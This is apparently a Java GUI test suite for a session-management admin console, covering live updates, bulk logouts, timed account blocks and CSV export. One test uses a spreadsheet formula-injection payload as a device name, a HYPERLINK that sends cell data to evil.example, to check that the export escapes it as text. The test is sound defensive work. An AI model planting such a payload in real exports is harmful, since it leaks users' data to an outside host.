package com.sessiondesk.client.gui;

import static org.assertj.core.api.Assertions.assertThat;

import com.sessiondesk.api.AuditEvent;
import com.sessiondesk.api.MobileLoginResponse;
import com.sessiondesk.api.Session;
import com.sessiondesk.api.User;
import com.sessiondesk.apitest.TestServers;
import com.sessiondesk.client.common.Formats;
import com.sessiondesk.client.common.Messages;
import com.sessiondesk.client.gui.LiveServer.Device;
import com.sessiondesk.client.logout.BlockEnd;
import com.sessiondesk.server.MutableClock;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Function;
import java.util.stream.Collectors;
import javafx.scene.Node;
import javafx.scene.control.Button;
import javafx.scene.control.CheckBox;
import javafx.scene.control.ComboBox;
import javafx.scene.control.DialogPane;
import javafx.scene.control.Label;
import javafx.scene.control.TableColumn;
import javafx.scene.control.TableRow;
import javafx.scene.control.TableView;
import javafx.scene.input.KeyCode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import retrofit2.Response;

/**
 * The live console against the real service: changes made elsewhere show without F5, bulk log
 * outs, the old app-version cleanup, a time-limited block that lapses (the service's and the
 * window's clocks are one clock the test moves), and a CSV export read back.
 */
class LiveConsoleGuiTest extends GuiTestBase {

    static final MutableClock clock = MutableClock.running(java.time.ZoneId.systemDefault());
    @RegisterExtension
    static final TestServers.Running<LiveServer> SERVER = LiveServer.running(config -> config.withClock(clock)
            .withAdminTimeouts(Duration.ofDays(2), Duration.ofDays(3))); // the clock jumps an hour
    static LiveServer server;
    final AtomicReference<Path> exportTo = new AtomicReference<>();

    @BeforeAll
    static void startServer() {
        server = SERVER.get();
    }

    private void openSignedIn() throws Exception {
        launch(optionsFor(server.baseUrl()), (owner, title, name) -> Optional.ofNullable(exportTo.get()), clock);
        signIn(server);
        waitUntil("the sessions are loaded", () -> rowCount(sessions()) > 0);
        waitUntil("the table is live", () -> "Live".equals(fx(() -> node("#liveIndicator", Label.class).getText())));
    }

    private TableView<Object> sessions() {
        return table("#sessionsTable");
    }

    private void search(String text, int expectedRows) {
        typeInto("#searchField", text);
        waitUntil("the search shows " + expectedRows + " rows", () -> rowCount(sessions()) == expectedRows);
    }

    @Test
    void aSessionStartedByADeviceAppearsWithoutF5AndTheOtherRowsStayInPlace() throws Exception {
        User staff = server.freshStaff();
        openSignedIn();
        Object untouched = fx(() -> sessions().getItems().get(5));
        fx(() -> {
            sessions().getSelectionModel().clearAndSelect(5);
            // the admin is not about to act on a row (pointer and focus elsewhere): the order may change
            node("#searchField", javafx.scene.Node.class).requestFocus();
            return null;
        });
        moveTo("#searchField");

        long start = System.nanoTime();
        Device device = server.login(staff.username(), "Billiyo Care");

        waitUntil("the new session shows without F5", 10, () -> rowContaining(sessions(), device.deviceModel()) >= 0);
        long millis = (System.nanoTime() - start) / 1_000_000;
        System.out.println("LiveConsoleGuiTest: a new session showed after " + millis + " ms");
        assertThat(rowContaining(sessions(), device.deviceModel())).as("newest first: on top").isZero();
        assertThat(fx(() -> sessions().getItems().contains(untouched)))
                .as("the other rows are the same objects: applied in place, not reloaded").isTrue();
        assertThat(fx(() -> sessions().getSelectionModel().getSelectedItem())).as("the selection stays on its row")
                .isSameAs(untouched);
        assertThat(rowCount(sessions())).isEqualTo(server.sessions().size());
    }

    @Test
    void aLogOutByAnotherAdminThroughTheApiDisappearsWithoutF5() throws Exception {
        User staff = server.freshStaff();
        Device device = server.login(staff.username(), "Billiyo Care");
        openSignedIn();
        search(device.deviceModel(), 1);

        server.logoutSession(device.sessionId(), "Done for today");

        waitUntil("the ended session leaves without F5", 10, () -> rowCount(sessions()) == 0);
        typeInto("#searchField", "");
        waitUntil("the table matches the server", () -> rowCount(sessions()) == server.sessions().size());
    }

    @Test
    void aSelectionIsLoggedOutWithOneConfirmationAndOneRequest() throws Exception {
        User first = server.freshStaff();
        User second = server.freshStaff();
        String tag = "Bulk-" + UUID.randomUUID().toString().substring(0, 6);
        List<Device> devices = List.of(server.login(first.username(), "Billiyo Care", tag + "-a"),
                server.login(first.username(), "EVV", tag + "-b"),
                server.login(second.username(), "Billiyo Care", tag + "-c"));
        server.heartbeat(devices.get(0), 4);
        server.heartbeat(devices.get(2), 3);
        openSignedIn();
        search(tag, 3);
        waitUntil("the unsynced counts arrived through the feed", () -> textsUnder(sessions()).contains("4 unsynced"));

        clickOn(rowNode(0));
        press(KeyCode.CONTROL, KeyCode.A).release(KeyCode.A, KeyCode.CONTROL);
        waitUntil("Ctrl+A selects the three rows shown",
                () -> "Log out selected (3)".equals(fx(() -> node("#logoutSelectedButton", Button.class).getText())));
        click("#logoutSelectedButton");
        waitUntil("one confirmation opens", () -> showing("#bulkLogoutDialog"));
        DialogPane dialog = node("#bulkLogoutDialog", DialogPane.class);
        String shown = textsUnder(dialog);
        assertThat(shown).contains("Log out 3 sessions?", "Ends 3 sessions of 2 users on 3 devices.", "7 unsynced items will be lost.");
        typeInto("#reasonField", "Shift over");
        clickOn(node("#bulkLogoutConfirmButton", Button.class));

        waitUntil("the dialog closes", () -> !showing("#bulkLogoutDialog"));
        waitUntil("the ended rows leave at once", 5, () -> rowCount(sessions()) == 0);
        waitUntil("the notification says what the server did",
                () -> notification() != null && notification().startsWith("Signed out 3 sessions of 2 users"));
        for (Device device : devices) {
            assertThat(server.heartbeat(device, null).code()).isEqualTo(401);
        }
        List<AuditEvent> bulk = server.audit().subList(0, 2); // one row per user
        assertThat(bulk).extracting(AuditEvent::action).containsOnly("logout_sessions");
        assertThat(bulk).flatExtracting(AuditEvent::sessionIds)
                .containsExactlyInAnyOrderElementsOf(devices.stream().map(Device::sessionId).toList());
        assertThat(bulk).extracting(AuditEvent::reason).containsOnly("Shift over");
    }

    @Test
    void endOldAppVersionSessionsEndsEverySupersededSessionAfterOneConfirmation() throws Exception {
        User staff = server.freshStaff();
        Device old = server.updatedApp(staff.username(), "Billiyo Care");
        openSignedIn();
        typeInto("#searchField", staff.username()); // the command clears the search to select them all
        long superseded = server.sessions().stream().filter(Session::superseded).count();
        assertThat(superseded).isGreaterThan(1);

        click("#endOldVersionsButton");

        waitUntil("one confirmation opens", () -> showing("#bulkLogoutDialog"));
        assertThat(fx(() -> node("#searchField", javafx.scene.control.TextField.class).getText())).isEmpty();
        assertThat(fx(() -> sessions().getSelectionModel().getSelectedItems().size())).isEqualTo((int) superseded);
        DialogPane dialog = node("#bulkLogoutDialog", DialogPane.class);
        assertThat(textsUnder(dialog)).contains("Log out " + superseded + " sessions?",
                "all of them from an old app version");
        clickOn(node("#bulkLogoutConfirmButton", Button.class));

        waitUntil("the dialog closes", () -> !showing("#bulkLogoutDialog"));
        assertThat(server.sessions()).noneMatch(Session::superseded);
        assertThat(server.heartbeat(old, null).code()).isEqualTo(401);
        waitUntil("no old-version row is left", () -> !textsUnder(sessions()).contains("old app version"));
        waitUntil("the table matches the server", () -> rowCount(sessions()) == server.sessions().size());
    }

    @Test
    void aBlockForOneHourRefusesTheDeviceThenLapsesByItself() throws Exception {
        User staff = server.freshStaff();
        Device device = server.login(staff.username(), "Billiyo Care");
        openSignedIn();
        search(device.deviceModel(), 1);
        clickOn(buttonInRow(sessions(), 0, "logout-button"));
        waitUntil("the Logout User Account dialog opens", () -> showing("#logoutDialog"));
        clickOn(node("#blockUserCheckBox", CheckBox.class));
        fx(() -> {
            @SuppressWarnings("unchecked")
            ComboBox<BlockEnd> until = node("#blockUntilChoice", ComboBox.class);
            until.getSelectionModel().select(BlockEnd.ONE_HOUR);
            return null;
        });
        assertThat(textsUnder(node("#logoutDialog", DialogPane.class))).contains("Blocked until ");
        Instant before = clock.instant().plus(Duration.ofHours(1)).minusSeconds(1);
        clickOn(node("#logoutConfirmButton", Button.class));
        waitUntil("the dialog closes", () -> !showing("#logoutDialog"));
        Instant after = clock.instant().plus(Duration.ofHours(1)).plusSeconds(1);
        waitUntil("the row leaves", () -> rowCount(sessions()) == 0);

        User blocked = server.user(staff.username());
        assertThat(blocked.blocked()).isTrue();
        Instant expectedEnd = blocked.blockedUntil();
        assertThat(expectedEnd).as("one hour from the click").isBetween(before, after);
        assertThat(notification()).contains("account blocked until " + Formats.dateTime(expectedEnd));
        Response<MobileLoginResponse> refused = server.mobileLogin(staff.username(), "Billiyo Care", "TestPhone-x");
        assertThat(refused.code()).isEqualTo(403);
        assertThat(LiveServer.errorOf(refused).blockedUntil()).isEqualTo(expectedEnd);

        click("#usersTab");
        waitUntil("User Accounts shows", () -> showing("#usersTable"));
        typeInto("#usersSearchField", staff.username());
        TableView<Object> users = table("#usersTable");
        waitUntil("the user's row says until when",
                () -> rowCount(users) == 1 && textsUnder(users).contains(Formats.compactDateTime(expectedEnd, Instant.now())));
        assertThat(server.audit().get(0).until()).as("History records the end").isEqualTo(expectedEnd);

        clock.advance(Duration.ofMinutes(61));

        assertThat(server.user(staff.username()).blocked()).isFalse();
        Device back = server.login(staff.username(), "Billiyo Care");
        click("#usersRefreshButton");
        waitUntil("the user shows active again", () -> textsUnder(users).contains("Active")
                && !textsUnder(users).contains(Formats.dateTime(expectedEnd)));
        click("#sessionsTab");
        search(back.deviceModel(), 1);
        assertThat(textsUnder(sessions())).doesNotContain("blocked");
    }

    @Test
    void exportWritesTheFilteredRowsInTheShownOrderWithTheShownColumns() throws Exception {
        User staff = server.freshStaff();
        String tag = "Export-" + UUID.randomUUID().toString().substring(0, 6);
        server.login(staff.username(), "Billiyo Care", tag + "-a");
        server.login(staff.username(), "EVV", tag + "-b");
        server.login(server.freshStaff().username(), "EVV", "Other-" + tag);
        Path file = home.resolve("sessions-" + tag + ".csv");
        exportTo.set(file);
        openSignedIn();
        search(tag + "-", 2);
        fx(() -> {
            sessions().getColumns().stream().filter(c -> "address-column".equals(c.getId())).findFirst()
                    .orElseThrow().setVisible(true); // as the column chooser does
            return null;
        });

        press(KeyCode.CONTROL, KeyCode.E).release(KeyCode.E, KeyCode.CONTROL);

        waitUntil("the export is written", () -> Files.exists(file)
                && notification() != null && notification().startsWith("Exported 2 sessions"));
        List<String> headers = fx(() -> sessions().getVisibleLeafColumns().stream().map(TableColumn::getText)
                .filter(t -> !t.isBlank() && !t.equals(Messages.get("sessions.column.logout"))).toList());
        assertThat(headers).containsExactly("Username", "Name", "Device", "Application", "Language", "Login Time",
                "Last Seen", "Address");
        List<String> idsShown = fx(() -> sessions().getItems().stream()
                .map(row -> ((com.sessiondesk.client.sessions.SessionRow) row).id()).toList());
        Map<String, Session> onServer = server.sessions().stream().collect(Collectors.toMap(Session::id, Function.identity()));
        List<List<String>> expected = new ArrayList<>();
        for (String id : idsShown) {
            Session s = onServer.get(id);
            expected.add(List.of(s.username(), s.name(), s.deviceModel() + " · " + s.deviceOs(),
                    s.application() + " " + s.appVersion(), s.language(), s.loginTime().toString(),
                    s.lastSeen().toString(), s.address()));
        }
        List<List<String>> written = new ArrayList<>();
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            List<CSVRecord> records = CSVFormat.RFC4180.parse(reader).getRecords();
            assertThat(records.get(0).toList()).isEqualTo(headers);
            records.stream().skip(1).forEach(r -> written.add(r.toList()));
        }
        assertThat(written).isEqualTo(expected);
        assertThat(written).allSatisfy(row -> assertThat(row.get(7)).as("the device's address").isNotBlank());
        assertThat(Files.readString(home.resolve("client.properties")))
                .as("the column choice is remembered").contains("sessions.hiddenColumns=");
    }

    @Test
    void exportWritesADeviceNameThatIsAFormulaAsText() throws Exception {
        String tag = "Formula" + UUID.randomUUID().toString().substring(0, 6);
        String model = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"" + tag + "\")";
        Device device = server.login(server.freshStaff().username(), "EVV", model);
        Path file = home.resolve("sessions-" + tag + ".csv");
        exportTo.set(file);
        openSignedIn();
        search(tag, 1);

        press(KeyCode.CONTROL, KeyCode.E).release(KeyCode.E, KeyCode.CONTROL);

        waitUntil("the export is written", () -> Files.exists(file)
                && notification() != null && notification().startsWith("Exported 1 session"));
        Session session = server.sessions().stream().filter(s -> s.id().equals(device.sessionId())).findFirst().orElseThrow();
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().get().parse(reader).getRecords();
            assertThat(records).hasSize(1);
            assertThat(records.get(0).get("Device")).as("opens as text, not as a live formula")
                    .isEqualTo("'" + model + " · " + session.deviceOs());
            assertThat(records.get(0).get("Username")).isEqualTo(session.username());
        }
    }

    private Node rowNode(int index) {
        return fx(() -> sessions().lookupAll(".table-row-cell").stream()
                .filter(n -> n instanceof TableRow<?> row && row.getIndex() == index && !row.isEmpty())
                .findFirst().orElseThrow(() -> new AssertionError("row " + index + " is not drawn")));
    }
}
